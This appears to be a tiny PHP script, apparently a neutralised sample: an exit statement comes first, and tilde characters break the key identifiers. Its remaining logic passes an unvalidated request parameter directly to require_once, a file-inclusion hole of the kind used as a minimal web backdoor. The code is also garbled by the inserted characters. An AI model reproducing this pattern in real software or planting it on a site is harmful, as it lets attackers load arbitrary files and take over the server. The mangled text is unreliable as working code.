<?php exit; ?>
<?php
$p = isset($_R~EQUEST['m']) ? $_R~EQUEST['m'] : 'home';
req~uire_once $p;
